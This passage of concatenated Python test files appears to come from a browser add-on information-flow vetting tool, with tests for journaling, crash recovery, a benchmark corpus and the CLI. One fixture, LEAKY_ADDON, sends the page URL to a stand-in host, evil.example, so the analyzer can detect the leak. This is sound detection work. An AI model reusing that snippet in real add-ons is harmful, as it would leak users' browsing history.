        journal.append(record)
    journal.close()

    replay = Journal(tmp_path / "j.log", fsync=False).replay()
    assert replay.records == records
    assert replay.corrupt == 0
    assert not replay.torn_tail


def test_replay_of_missing_journal_is_empty(tmp_path):
    replay = Journal(tmp_path / "absent.log").replay()
    assert replay.records == []
    assert replay.corrupt == 0


def test_torn_tail_is_detected_and_repaired(tmp_path):
    path = tmp_path / "j.log"
    journal = Journal(path, fsync=False)
    journal.append({"n": 1})
    journal.append({"n": 2})
    journal.close()

    # Tear the last line mid-record: a crash between write and newline.
    data = path.read_bytes()
    path.write_bytes(data[:-7])

    replay = Journal(path, fsync=False).replay()
    assert replay.records == [{"n": 1}]
    assert replay.torn_tail

    repairing = Journal(path, fsync=False)
    assert repairing.repair()
    after = repairing.replay()
    assert after.records == [{"n": 1}]
    assert not after.torn_tail
    # The repaired journal accepts new appends cleanly.
    repairing.append({"n": 3})
    repairing.close()
    assert Journal(path).replay().records == [{"n": 1}, {"n": 3}]


def test_corrupt_record_is_skipped_and_counted(tmp_path):
    path = tmp_path / "j.log"
    journal = Journal(path, fsync=False)
    for n in range(3):
        journal.append({"n": n})
    journal.close()

    lines = path.read_bytes().splitlines(keepends=True)
    # Flip bytes inside the middle record, keeping the line complete:
    # checksum mismatch, not a torn tail.
    lines[1] = lines[1][:12] + b"XXXX" + lines[1][16:]
    path.write_bytes(b"".join(lines))

    replay = Journal(path).replay()
    assert replay.records == [{"n": 0}, {"n": 2}]
    assert replay.corrupt == 1
    assert not replay.torn_tail


def test_compact_rewrites_to_exactly_the_given_records(tmp_path):
    path = tmp_path / "j.log"
    journal = Journal(path, fsync=False)
    for n in range(50):
        journal.append({"n": n})
    journal.compact([{"n": 49}])
    journal.append({"n": 50})
    journal.close()
    assert Journal(path).replay().records == [{"n": 49}, {"n": 50}]


@pytest.mark.faults
def test_replay_after_sigkill_mid_write(tmp_path):
    """SIGKILL a writer mid-append-loop; the journal must replay to an
    exact prefix of what the writer acknowledged — every record either
    fully present or (at most the last) cleanly dropped, never mangled."""
    path = tmp_path / "killed.log"
    script = textwrap.dedent("""
        import sys
        from repro.store import Journal
        journal = Journal(sys.argv[1], fsync=False)
        n = 0
        while True:
            journal.append({"n": n, "pad": "x" * 512})
            print(n, flush=True)
            n += 1
    """)
    process = subprocess.Popen(
        [sys.executable, "-c", script, str(path)],
        stdout=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": "src"},
    )
    acked = -1
    for _ in range(200):  # let it ack a bunch of appends, then kill it
        line = process.stdout.readline()
        if not line:
            break
        acked = int(line)
    process.kill()
    process.wait()
    assert acked >= 100, "writer died before producing enough appends"

    journal = Journal(path)
    journal.repair()
    replay = journal.replay()
    numbers = [record["n"] for record in replay.records]
    assert replay.corrupt == 0
    # Exact prefix: no gaps, no reordering, and nothing acked is lost
    # beyond the single possibly-in-flight append.
    assert numbers == list(range(len(numbers)))
    assert len(numbers) >= acked, (
        "an acknowledged append vanished: "
        f"replayed {len(numbers)}, acked through {acked}"
    )
