"""fsck: the post-crash recovery scan over a store directory."""

import pytest

from repro.store import Journal, JsonStore, fsck_store
from repro.store.atomic import TMP_SUFFIX

pytestmark = [pytest.mark.service, pytest.mark.faults]


def _populate(directory):
    store = JsonStore(directory / "entries", shards=1)
    store.put("good-1", {"v": 1})
    store.put("good-2", {"v": 2})
    journal = Journal(directory / "journal" / "shard-00.log", fsync=False)
    journal.append({"event": "submit"})
    journal.close()
    return store


def test_clean_store_scans_clean(tmp_path):
    _populate(tmp_path)
    report = fsck_store(tmp_path)
    assert report.clean
    assert report.scanned > 0
    assert report.quarantined == []
    assert report.swept_tmp == []


def test_fsck_sweeps_stale_tmp_strays(tmp_path):
    _populate(tmp_path)
    stray = tmp_path / "entries" / f".good-1.json.abc{TMP_SUFFIX}"
    stray.write_bytes(b"half a wri")
    report = fsck_store(tmp_path)
    assert len(report.swept_tmp) == 1
    assert not stray.exists()
    # The published entry the stray was headed for is untouched.
    assert JsonStore(tmp_path / "entries", shards=1).get("good-1") == {"v": 1}


def test_fsck_quarantines_torn_entries(tmp_path):
    store = _populate(tmp_path)
    store.path_of("good-2").write_text("{\"v\": 2", encoding="utf-8")
    report = fsck_store(tmp_path)
    assert len(report.quarantined) == 1
    assert not report.clean
    assert store.get("good-2") is None
    assert (tmp_path / "entries" / "good-2.corrupt").is_file()
    assert store.get("good-1") == {"v": 1}


def test_fsck_repairs_torn_journal_tails(tmp_path):
    _populate(tmp_path)
    path = tmp_path / "journal" / "shard-00.log"
    data = path.read_bytes()
    path.write_bytes(data + b"deadbeef {\"torn")
    report = fsck_store(tmp_path)
    assert len(report.repaired_journals) == 1
    replay = Journal(path).replay()
    assert replay.records == [{"event": "submit"}]
    assert not replay.torn_tail


def test_fsck_counts_corrupt_journal_records(tmp_path):
    _populate(tmp_path)
    path = tmp_path / "journal" / "shard-00.log"
    with open(path, "ab") as handle:
        handle.write(b"00000000 {\"bad\": \"crc\"}\n")
    report = fsck_store(tmp_path)
    assert report.corrupt_journal_records == 1
    assert not report.clean


def test_report_serializes(tmp_path):
    _populate(tmp_path)
    payload = fsck_store(tmp_path).to_json()
    assert payload["clean"] is True
    assert set(payload) >= {
        "scanned", "quarantined", "swept_tmp", "repaired_journals",
        "corrupt_journal_records",
    }
