"""The fleet benchmark harness: section shape, soundness, merging."""

import json

import pytest

from repro.corpusgen.fleet import (
    FLEET_SECTION_KEYS,
    merge_fleet_section,
    render_fleet,
    run_fleet,
)

pytestmark = pytest.mark.fleet


@pytest.fixture(scope="module")
def section(tmp_path_factory):
    output = tmp_path_factory.mktemp("fleet") / "BENCH_corpus.json"
    return run_fleet(
        18, seed=0, workers=1, update_count=4, output=output
    ), output


class TestFleetRun:
    def test_zero_verdict_mismatches(self, section):
        report, _ = section
        assert report["verdict_mismatches"] == 0
        assert report["mismatches"] == []

    def test_section_schema(self, section):
        report, _ = section
        assert tuple(sorted(report)) == tuple(sorted(FLEET_SECTION_KEYS))

    def test_throughput_is_measured(self, section):
        report, _ = section
        throughput = report["throughput"]
        assert throughput["addons_per_s"] > 0
        assert throughput["addons_per_s_per_core"] > 0
        assert throughput["cores"] >= 1

    def test_hit_rates_recorded(self, section):
        report, _ = section
        assert 0.0 <= report["prefilter"]["hit_rate"] <= 1.0
        assert report["cache"]["hit_rate"] == 1.0  # warm run: all hits
        assert 0.0 <= report["updates"]["hit_rate"] <= 1.0

    def test_peak_rss_recorded(self, section):
        report, _ = section
        assert report["peak_rss_mb"] is None or report["peak_rss_mb"] > 0

    def test_generated_breakdown_sums(self, section):
        report, _ = section
        generated = report["generated"]
        assert generated["singles"] + generated["bundles"] == report["count"]

    def test_render_mentions_soundness(self, section):
        report, _ = section
        rendered = render_fleet(report)
        assert "verdict mismatches: 0" in rendered
        assert "SOUND" in rendered


class TestFleetMerge:
    def test_merge_into_existing_report_preserves_sections(self, tmp_path):
        path = tmp_path / "BENCH_corpus.json"
        path.write_text(json.dumps({
            "schema": "addon-sig/bench-corpus/v6",
            "corpus": {"count": 10},
            "prefilter": {"hit_rate": 0.33},
        }))
        merged = merge_fleet_section(path, {"count": 5})
        data = json.loads(path.read_text())
        assert data["schema"].endswith("/v8")
        assert data["corpus"] == {"count": 10}
        assert data["prefilter"] == {"hit_rate": 0.33}
        assert data["fleet"] == {"count": 5}
        assert merged == data

    def test_merge_creates_fresh_report(self, tmp_path):
        path = tmp_path / "BENCH_corpus.json"
        merge_fleet_section(path, {"count": 5})
        data = json.loads(path.read_text())
        assert data["fleet"]["count"] == 5

    def test_merge_survives_corrupt_report(self, tmp_path):
        path = tmp_path / "BENCH_corpus.json"
        path.write_text("{not json")
        merge_fleet_section(path, {"count": 5})
        assert json.loads(path.read_text())["fleet"]["count"] == 5

    def test_run_writes_and_merges(self, section):
        report, output = section
        data = json.loads(output.read_text())
        assert data["fleet"]["count"] == report["count"]
        assert data["schema"].endswith("/v8")
