"""The verdict-carrying generator's core promises.

Every addon the generator emits *is* its own test oracle: the expected
signature rides along, so these suites hold the real pipeline to it —
per-fragment (each template's pinned entries), per-corpus (a seeded
sample vets to exactly the expected signatures), and per-mutation (the
hypothesis properties: verdict-preserving mutations are bit-identical,
injected flows surface at the expected flow type).
"""

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.api import diff_vet, vet
from repro.corpusgen import (
    BENIGN_KINDS,
    DYNAMIC_SURFACE_KINDS,
    FLOW_KINDS,
    FRAGMENTS,
    PRESERVING_MUTATIONS,
    build_fragment,
    expected_signature_text,
    generate_addon,
    generate_corpus,
    generate_updates,
    mutate_inject_flow,
    mutate_remove_flow,
)
from repro.corpusgen.generator import _draw_blueprint

pytestmark = pytest.mark.fleet

_SETTINGS = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


def _vetted(source: str) -> str:
    return vet(source).signature.render()


# ----------------------------------------------------------------------
# Fragment templates: each one's pinned entries are what the pipeline
# actually infers for it, in isolation.


@pytest.mark.parametrize(
    "kind",
    sorted(FLOW_KINDS) + sorted(BENIGN_KINDS) + sorted(DYNAMIC_SURFACE_KINDS),
)
def test_fragment_template_matches_pipeline(kind):
    spec = FRAGMENTS[kind][0]
    names = tuple(f"frag{i}" for i in range(spec.arity))
    fragment = build_fragment(
        kind, names, "https://pin.example/p?x=" if spec.needs_domain else None
    )
    assert _vetted(fragment.text) == expected_signature_text(fragment.entries)


def _benign_instance(kind):
    spec = FRAGMENTS[kind][0]
    return build_fragment(
        kind, tuple(f"benign{i}" for i in range(spec.arity)), None
    )


def test_benign_fragments_are_prefiltered():
    for kind in sorted(BENIGN_KINDS):
        report = vet(_benign_instance(kind).text, prefilter=True)
        assert report.prefiltered, kind
        assert report.signature.render() == ""


def test_constant_computed_fragment_needs_resolution_to_prefilter():
    # benign-table's obj[key] sites are provably constant: only the
    # pre-analysis resolver lets the prefilter skip it.
    text = _benign_instance("benign-table").text
    assert vet(text, prefilter=True).prefiltered
    assert not vet(text, prefilter=True, preanalysis=False).prefiltered


def test_dynamic_surface_fragments_stay_out_of_the_fast_lane():
    for kind in sorted(DYNAMIC_SURFACE_KINDS):
        report = vet(_benign_instance(kind).text, prefilter=True)
        assert not report.prefiltered, kind
        assert report.signature.render() == ""


# ----------------------------------------------------------------------
# Corpus determinism and soundness on a seeded sample.


def test_corpus_is_deterministic():
    first = generate_corpus(30, seed=7)
    second = generate_corpus(30, seed=7)
    assert [a.source for a in first] == [a.source for a in second]
    assert [a.expected_signature for a in first] == [
        a.expected_signature for a in second
    ]


def test_corpus_varies_with_seed():
    assert {a.source for a in generate_corpus(10, seed=1)} != {
        a.source for a in generate_corpus(10, seed=2)
    }


def test_addon_generation_is_shard_stable():
    corpus = generate_corpus(12, seed=3)
    # Generating addon i directly equals slicing it out of the corpus:
    # shards can split a fleet without re-deriving neighbours.
    assert generate_addon(3, 7).source == corpus[7].source


@pytest.mark.slow
def test_seeded_sample_vets_to_expected_signatures():
    for addon in generate_corpus(25, seed=11):
        assert _vetted(addon.source) == addon.expected_signature, addon.name


def test_corpus_mixes_singles_and_bundles():
    kinds = {a.kind for a in generate_corpus(40, seed=0)}
    assert kinds == {"single", "bundle"}


# ----------------------------------------------------------------------
# Hypothesis: verdict-preserving mutations are bit-identical.


@given(
    seed=st.integers(0, 10_000),
    mutation=st.sampled_from(sorted(PRESERVING_MUTATIONS)),
)
@_SETTINGS
def test_preserving_mutation_keeps_signature_bit_identical(seed, mutation):
    rng = random.Random(f"prop:{seed}")
    blueprint = _draw_blueprint(rng)
    before = _vetted(blueprint.render())
    assert before == expected_signature_text(blueprint.expected_entries())
    mutated = PRESERVING_MUTATIONS[mutation](blueprint, rng)
    assert _vetted(mutated.render()) == before


@given(seed=st.integers(0, 10_000))
@_SETTINGS
def test_injected_flow_appears_at_expected_type(seed):
    rng = random.Random(f"inject:{seed}")
    blueprint = _draw_blueprint(rng)
    delta = mutate_inject_flow(blueprint, rng)
    if delta is None:
        return  # conflict groups left nothing injectable
    vetted = set(_vetted(delta.blueprint.render()).splitlines())
    for entry in delta.added:
        # The tagged delta entry carries the expected flow type
        # (e.g. "url -type1-> send(...)"): it must appear verbatim.
        assert entry in vetted


@given(seed=st.integers(0, 10_000))
@_SETTINGS
def test_removed_flow_entries_vanish(seed):
    rng = random.Random(f"remove:{seed}")
    blueprint = _draw_blueprint(rng, min_flows=1)
    delta = mutate_remove_flow(blueprint, rng)
    assert delta is not None
    vetted = set(_vetted(delta.blueprint.render()).splitlines())
    for entry in delta.removed:
        assert entry not in vetted


# ----------------------------------------------------------------------
# Update chains: expected diffvet classifications hold.


@pytest.mark.slow
def test_update_pairs_classify_as_expected():
    for update in generate_updates(8, seed=5):
        report = diff_vet(update.old_source, update.new_source)
        assert report.verdict in update.expected_verdicts, (
            update.name, update.mutation, report.verdict,
        )


def test_updates_are_deterministic():
    first = generate_updates(6, seed=9)
    second = generate_updates(6, seed=9)
    assert [(u.old_source, u.new_source) for u in first] == [
        (u.old_source, u.new_source) for u in second
    ]


def test_update_mutations_cover_both_directions():
    mutations = {u.mutation for u in generate_updates(40, seed=0)}
    assert "inject-flow" in mutations  # widening must be represented
    assert mutations & {"rename", "dead-code", "reorder"}  # and preserving
