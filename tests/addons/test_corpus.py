"""Tests for the benchmark corpus: every addon parses, analyzes, and
reproduces its Table 2 verdict."""

import pytest

from repro.addons import BY_NAME, CORPUS, vet_addon
from repro.domains import prefix as p
from repro.js import node_count, parse
from repro.signatures import FlowType, Verdict


@pytest.fixture(scope="module")
def reports():
    return {spec.name: vet_addon(spec) for spec in CORPUS}


class TestCorpusShape:
    def test_ten_addons(self):
        assert len(CORPUS) == 10

    def test_unique_names_and_files(self):
        names = [spec.name for spec in CORPUS]
        files = [spec.filename for spec in CORPUS]
        assert len(set(names)) == 10 and len(set(files)) == 10

    def test_categories_match_paper(self):
        by_category = {"A": set(), "B": set(), "C": set()}
        for spec in CORPUS:
            by_category[spec.category].add(spec.name)
        assert by_category["A"] == {"LivePagerank", "LessSpamPlease"}
        assert by_category["B"] == {
            "YoutubeDownloader", "VKVideoDownloader", "HyperTranslate"
        }
        assert len(by_category["C"]) == 5

    def test_paper_metadata_carried(self):
        spec = BY_NAME["YoutubeDownloader"]
        assert spec.paper_ast_nodes == 3755
        assert spec.paper_downloads == 7_600_428

    def test_every_addon_parses(self):
        for spec in CORPUS:
            tree = parse(spec.source())
            assert node_count(tree) > 50, spec.name

    def test_manual_signatures_parse(self):
        for spec in CORPUS:
            assert len(spec.manual_signature) >= 1, spec.name


class TestVerdicts:
    def test_expected_verdicts(self, reports):
        for spec in CORPUS:
            verdict = reports[spec.name].comparison.verdict.value
            assert verdict == spec.expected_verdict, spec.name

    def test_five_pass_two_fail_three_leak(self, reports):
        counts = {"pass": 0, "fail": 0, "leak": 0}
        for spec in CORPUS:
            counts[reports[spec.name].comparison.verdict.value] += 1
        assert counts == {"pass": 5, "fail": 2, "leak": 3}

    def test_no_analysis_misses(self, reports):
        # A MISS verdict would mean the analysis failed to find a manual
        # entry: unsoundness.
        for spec in CORPUS:
            assert reports[spec.name].comparison.verdict is not Verdict.MISS


class TestPerAddonSignatures:
    def test_livepagerank_type1(self, reports):
        signature = reports["LivePagerank"].signature
        entries = list(signature.flows)
        assert len(entries) == 1
        assert entries[0].source == "url"
        assert entries[0].flow_type is FlowType.TYPE1
        assert entries[0].domain.text.startswith(
            "http://toolbarqueries.google.example/"
        )

    def test_lessspamplease_domain_lost(self, reports):
        signature = reports["LessSpamPlease"].signature
        entry = next(iter(signature.flows))
        # Domain degraded to the bare scheme: the paper's failure mode.
        assert entry.domain == p.prefix("https://")
        assert entry.flow_type is FlowType.TYPE1  # flow type still right

    def test_vkvideodownloader_domain_unknown(self, reports):
        signature = reports["VKVideoDownloader"].signature
        entry = next(iter(signature.flows))
        assert entry.domain == p.prefix("http://")

    def test_youtubedownloader_explicit_leak(self, reports):
        comparison = reports["YoutubeDownloader"].comparison
        assert any(
            getattr(e, "flow_type", None) is FlowType.TYPE1
            for e in comparison.extra
        )

    def test_hypertranslate_amplified_implicit(self, reports):
        signature = reports["HyperTranslate"].signature
        entry = next(iter(signature.flows))
        assert entry.source == "key"
        assert entry.flow_type is FlowType.TYPE3

    def test_category_c_pass_addons_have_bare_send_only(self, reports):
        for name in ("Chess.comNotifier", "CoffeePodsDeals", "oDeskJobWatcher"):
            signature = reports[name].signature
            assert not signature.flows, name
            assert len(signature.apis) == 1, name

    def test_pinpoints_undocumented_domain(self, reports):
        comparison = reports["PinPoints"].comparison
        assert any(
            e.domain is not None
            and e.domain.text.startswith("https://maps.google.example/")
            for e in comparison.extra
        )

    def test_googletransliterate_implicit_url_leak(self, reports):
        comparison = reports["GoogleTransliterate"].comparison
        extra = next(iter(comparison.extra))
        assert extra.source == "url"
        assert extra.flow_type is FlowType.TYPE5

    def test_no_unknown_callees_anywhere(self, reports):
        # The browser environment models everything the corpus uses; an
        # unresolved callee would mean a stub regression.
        for spec in CORPUS:
            assert not reports[spec.name].unknown_calls, spec.name


class TestSizeOrdering:
    def test_relative_size_order_matches_paper(self):
        """Table 1's size column: our synthetic corpus preserves the
        paper's relative size ordering exactly (absolute counts differ —
        ours is a different AST over smaller recreations)."""
        from repro.js import node_count, parse

        paper_order = [s.name for s in sorted(CORPUS, key=lambda s: s.paper_ast_nodes)]
        ours = {s.name: node_count(parse(s.source())) for s in CORPUS}
        our_order = [s.name for s in sorted(CORPUS, key=lambda s: ours[s.name])]
        assert our_order == paper_order

    def test_all_addons_are_substantial(self):
        from repro.js import node_count, parse

        for spec in CORPUS:
            assert node_count(parse(spec.source())) >= 100, spec.name
