"""Tests for the public API facade and the CLI."""

import pytest

from repro import api
from repro.cli import build_parser, main
from repro.signatures import Verdict, parse_signature

SIMPLE_ADDON = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://feed.example/items", true);
xhr.send(null);
"""

LEAKY_ADDON = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://evil.example/?u=" + content.location.href, true);
xhr.send(null);
"""


class TestApi:
    def test_infer_signature_convenience(self):
        signature = api.infer_signature(SIMPLE_ADDON)
        assert "feed.example" in signature.render()

    def test_vet_returns_full_report(self):
        report = api.vet(LEAKY_ADDON)
        assert report.ast_nodes > 10
        assert report.pdg.edges
        assert report.signature.flows

    def test_vet_with_manual_comparison(self):
        manual = parse_signature("send(https://feed.example/items)")
        report = api.vet(SIMPLE_ADDON, manual=manual)
        assert report.comparison.verdict is Verdict.PASS

    def test_vet_render_mentions_signature(self):
        report = api.vet(LEAKY_ADDON)
        text = report.render()
        assert "AST nodes" in text and "evil.example" in text

    def test_three_phase_api(self):
        program, result = api.analyze_addon(LEAKY_ADDON)
        pdg = api.build_addon_pdg(result)
        detail = api.infer_addon_signature(result, pdg)
        assert detail.signature.flows

    def test_unknown_calls_surfaced(self):
        report = api.vet("totallyUnknownApi(1);")
        assert report.unknown_calls


class TestCli:
    def test_parser_subcommands(self):
        parser = build_parser()
        arguments = parser.parse_args(["analyze", "file.js"])
        assert arguments.command == "analyze"

    def test_analyze_command(self, tmp_path, capsys):
        addon = tmp_path / "addon.js"
        addon.write_text(LEAKY_ADDON)
        assert main(["analyze", str(addon)]) == 0
        output = capsys.readouterr().out
        assert "url -type1-> send(https://evil.example/?u=...)" in output

    def test_analyze_with_manual(self, tmp_path, capsys):
        addon = tmp_path / "addon.js"
        addon.write_text(SIMPLE_ADDON)
        manual = tmp_path / "manual.sig"
        manual.write_text("send(https://feed.example/items)\n")
        assert main(["analyze", str(addon), "--manual", str(manual)]) == 0
        assert "verdict: pass" in capsys.readouterr().out

    def test_analyze_with_dot_export(self, tmp_path, capsys):
        addon = tmp_path / "addon.js"
        addon.write_text(SIMPLE_ADDON)
        dot = tmp_path / "pdg.dot"
        assert main(["analyze", str(addon), "--dot", str(dot)]) == 0
        assert dot.read_text().startswith("digraph")

    def test_vet_broken_bundle_refused_cleanly(self, tmp_path):
        bad = tmp_path / "bad"
        bad.mkdir()
        (bad / "manifest.json").write_text(
            '{"manifest_version": 3, "name": "bad", "version": "1.0",'
            ' "content_scripts": [{"matches": ["<all_urls>"],'
            ' "js": ["gone.js"]}]}'
        )
        with pytest.raises(SystemExit, match="refused:.*missing scripts"):
            main(["vet", str(bad)])

    def test_table1_command(self, capsys):
        assert main(["table1"]) == 0
        assert "LivePagerank" in capsys.readouterr().out

    def test_figures_command(self, capsys):
        assert main(["figures"]) == 0
        output = capsys.readouterr().out
        assert "Figure 2" in output and "Figure 4" in output

    def test_report_command_listed(self):
        parser = build_parser()
        arguments = parser.parse_args(["report", "--runs", "2"])
        assert arguments.command == "report" and arguments.runs == 2
