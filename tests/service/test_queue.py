"""DurableJobQueue: journaled lifecycle, replay, exactly-once commits."""

import os
import subprocess
import sys
import textwrap

import pytest

from repro.batch import VetTask
from repro.faults import FailureKind
from repro.service import DurableJobQueue, JobState

pytestmark = pytest.mark.service


def _task(name="addon", source="var x = 1;"):
    return VetTask(name=name, source=source)


def _queue(tmp_path, **kwargs):
    kwargs.setdefault("fsync", False)
    return DurableJobQueue(tmp_path, **kwargs)


class TestLifecycle:
    def test_submit_claim_commit(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        assert job.state is JobState.QUEUED

        claimed = queue.claim()
        assert claimed.id == job.id
        assert claimed.state is JobState.RUNNING
        assert claimed.attempts == 1

        assert queue.commit_result(job.id, {"ok": True})
        assert queue.get(job.id).state is JobState.DONE
        assert queue.result(job.id) == {"ok": True}

    def test_submit_is_idempotent_on_job_id(self, tmp_path):
        queue = _queue(tmp_path)
        first = queue.submit(_task(), job_id="job-1")
        again = queue.submit(_task(), job_id="job-1")
        assert first is again
        assert queue.depth() == 1

    def test_commit_is_idempotent_first_verdict_wins(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        queue.claim()
        assert queue.commit_result(job.id, {"verdict": "first"})
        assert not queue.commit_result(job.id, {"verdict": "second"})
        assert queue.result(job.id) == {"verdict": "first"}

    def test_claim_order_is_submission_order(self, tmp_path):
        queue = _queue(tmp_path)
        ids = [
            queue.submit(_task(f"a{n}", f"var v{n} = {n};")).id
            for n in range(5)
        ]
        assert [queue.claim().id for _ in range(5)] == ids
        assert queue.claim() is None

    def test_cancel_only_from_queued(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        assert queue.cancel(job.id)
        assert not queue.cancel(job.id)
        assert queue.claim() is None, "cancelled jobs are not claimable"

        running = queue.submit(_task("other", "var y = 2;"))
        queue.claim()
        assert not queue.cancel(running.id), "running jobs keep running"

    def test_fail_records_typed_failure(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        queue.claim()
        queue.fail(job.id, FailureKind.BUDGET_TIME, "hard deadline")
        got = queue.get(job.id)
        assert got.state is JobState.FAILED
        assert got.failure == FailureKind.BUDGET_TIME.value


class TestCrashRetryAndPoison:
    def test_crashed_requeues_until_attempts_spent(self, tmp_path):
        queue = _queue(tmp_path, max_attempts=3)
        job = queue.submit(_task())
        for attempt in (1, 2):
            assert queue.claim().attempts == attempt
            assert queue.crashed(job.id, "boom") is JobState.QUEUED
        queue.claim()
        assert queue.crashed(job.id, "boom") is JobState.POISONED
        got = queue.get(job.id)
        assert got.failure == FailureKind.POISON.value
        assert "3" in got.error
        assert queue.claim() is None, "poisoned jobs never run again"


class TestReplay:
    def test_replay_restores_every_state(self, tmp_path):
        queue = _queue(tmp_path)
        done = queue.submit(_task("done-addon", "var a = 1;"))
        queue.claim()
        queue.commit_result(done.id, {"ok": True})
        queued = queue.submit(_task("queued-addon", "var b = 2;"))
        cancelled = queue.submit(_task("cancelled-addon", "var c = 3;"))
        queue.cancel(cancelled.id)
        queue.close()

        revived = _queue(tmp_path)
        assert revived.get(done.id).state is JobState.DONE
        assert revived.result(done.id) == {"ok": True}
        assert revived.get(queued.id).state is JobState.QUEUED
        assert revived.get(cancelled.id).state is JobState.CANCELLED
        assert revived.recovery["jobs_replayed"] == 3
        assert revived.claim().id == queued.id

    def test_replay_requeues_mid_run_jobs(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        queue.claim()  # daemon "dies" here, mid-run
        queue.close()

        revived = _queue(tmp_path)
        assert revived.recovery["requeued"] == 1
        claimed = revived.claim()
        assert claimed.id == job.id
        assert claimed.attempts == 2, "the lost attempt still counts"

    def test_replay_heals_commit_without_done_record(self, tmp_path):
        queue = _queue(tmp_path)
        job = queue.submit(_task())
        queue.claim()
        # Crash window: the result was committed to the store but the
        # daemon died before journaling ``done``.
        queue.results.put(job.id, {"ok": True, "verdict": "pass"})
        queue.close()

        revived = _queue(tmp_path)
        assert revived.recovery["healed_commits"] == 1
        assert revived.get(job.id).state is JobState.DONE
        assert revived.result(job.id) == {"ok": True, "verdict": "pass"}
        assert revived.claim() is None, "healed job is never re-run"

    def test_replay_poisons_jobs_with_spent_attempts(self, tmp_path):
        queue = _queue(tmp_path, max_attempts=1)
        job = queue.submit(_task())
        queue.claim()  # attempt journaled, then the daemon dies
        queue.close()

        revived = _queue(tmp_path, max_attempts=1)
        assert revived.recovery["poisoned"] == 1
        assert revived.get(job.id).state is JobState.POISONED

    def test_compact_preserves_state_and_shrinks_journals(self, tmp_path):
        queue = _queue(tmp_path, max_attempts=5)
        survivor = queue.submit(_task("survivor", "var s = 1;"))
        pending = queue.submit(_task("pending", "var p = 2;"))
        # Crash the same job twice before it commits: three ``start``
        # records pile up that compaction folds to one high-water mark.
        for _ in range(2):
            assert queue.claim().id == survivor.id
            queue.crashed(survivor.id, "boom")
            queue.claim()  # the other job interleaves
            queue.crashed(pending.id, "boom")
        assert queue.claim().id == survivor.id
        queue.commit_result(survivor.id, {"ok": True})
        size_before = sum(
            p.stat().st_size for p in (tmp_path / "journal").glob("*.log")
        )
        queue.compact()
        size_after = sum(
            p.stat().st_size for p in (tmp_path / "journal").glob("*.log")
        )
        assert size_after < size_before
        queue.close()

        revived = _queue(tmp_path, max_attempts=5)
        assert revived.get(survivor.id).state is JobState.DONE
        assert revived.get(survivor.id).attempts == 3
        assert revived.result(survivor.id) == {"ok": True}
        assert revived.claim().id == pending.id


@pytest.mark.faults
class TestCrashDurability:
    def test_acked_submissions_survive_sigkill(self, tmp_path):
        """SIGKILL a submitting process mid-stream: every submission it
        acknowledged must replay; at most the unacknowledged in-flight
        one may be missing — and nothing may be duplicated or torn."""
        script = textwrap.dedent("""
            import sys
            from repro.batch import VetTask
            from repro.service import DurableJobQueue
            queue = DurableJobQueue(sys.argv[1], fsync=False)
            n = 0
            while True:
                queue.submit(
                    VetTask(name=f"addon-{n}", source=f"var v = {n};"),
                    job_id=f"job-{n:05d}",
                )
                print(n, flush=True)
                n += 1
        """)
        process = subprocess.Popen(
            [sys.executable, "-c", script, str(tmp_path)],
            stdout=subprocess.PIPE,
            env={**os.environ, "PYTHONPATH": "src"},
        )
        acked = -1
        for _ in range(150):
            line = process.stdout.readline()
            if not line:
                break
            acked = int(line)
        process.kill()
        process.wait()
        assert acked >= 50, "submitter died before enough submissions"

        queue = _queue(tmp_path)
        ids = sorted(job.id for job in queue.jobs())
        assert queue.recovery["corrupt_records"] == 0
        expected = [f"job-{n:05d}" for n in range(len(ids))]
        assert ids == expected, "replayed ids must be a gapless prefix"
        assert len(ids) >= acked + 1
        assert all(
            job.state is JobState.QUEUED for job in queue.jobs()
        )
