"""The chaos harness's deterministic pieces: workload, verdicts,
percentiles, invariant checks."""

import pytest

from repro.service.loadgen import (
    Chain,
    STABLE_FIELDS,
    _check_runs,
    _percentiles,
    build_workload,
    stable_verdict,
)

pytestmark = pytest.mark.service


class TestWorkload:
    def test_totals_exactly_the_requested_jobs(self):
        for jobs in (1, 7, 50):
            chains = build_workload(jobs, seed=3)
            assert sum(len(c.sources) for c in chains) == jobs

    def test_same_seed_same_workload(self):
        assert build_workload(20, seed=7) == build_workload(20, seed=7)
        assert build_workload(20, seed=7) != build_workload(20, seed=8)

    def test_chains_mix_updates_in(self):
        chains = build_workload(40, seed=0)
        assert any(len(c.sources) > 1 for c in chains), "no update chains"
        for chain in chains:
            assert len(set(chain.sources)) == len(chain.sources), (
                "each version must differ from its predecessor"
            )

    def test_job_ids_are_stable_and_distinct(self):
        chain = build_workload(10, seed=0)[0]
        assert chain.job_ids() == chain.job_ids()
        assert len(set(chain.job_ids())) == len(chain.sources)


class TestStableVerdict:
    def test_excludes_machinery_fields(self):
        fast = {"name": "a", "ok": True, "times": {"p1": 0.1},
                "counters": {"states": 9}, "timing_samples": 3}
        slow = {"name": "a", "ok": True, "times": {"p1": 9.9},
                "counters": {"states": 12}, "timing_samples": 1}
        assert stable_verdict(fast) == stable_verdict(slow)

    def test_catches_verdict_drift(self):
        for field in STABLE_FIELDS:
            base = {name: None for name in STABLE_FIELDS}
            drifted = dict(base, **{field: "changed"})
            assert stable_verdict(base) != stable_verdict(drifted), field


class TestPercentiles:
    def test_empty_is_all_none(self):
        assert _percentiles([]) == {
            "p50_ms": None, "p95_ms": None, "p99_ms": None,
        }

    def test_orders_input_and_reports_milliseconds(self):
        values = [0.100, 0.001, 0.050]
        result = _percentiles(values)
        assert result["p50_ms"] == 50.0
        assert result["p99_ms"] == 100.0


def _run(states, outcomes, version_chains):
    return {
        "_states": states, "_outcomes": outcomes,
        "_version_chains": version_chains,
    }


class TestInvariantChecks:
    CHAIN = Chain(name="addon", sources=("var a = 1;", "var a = 2;"))

    def _clean_runs(self):
        ids = self.CHAIN.job_ids()
        states = {job_id: "done" for job_id in ids}
        outcomes = {
            job_id: {name: None for name in STABLE_FIELDS}
            for job_id in ids
        }
        chains = {"addon": ["sha-1", "sha-2"]}
        return (
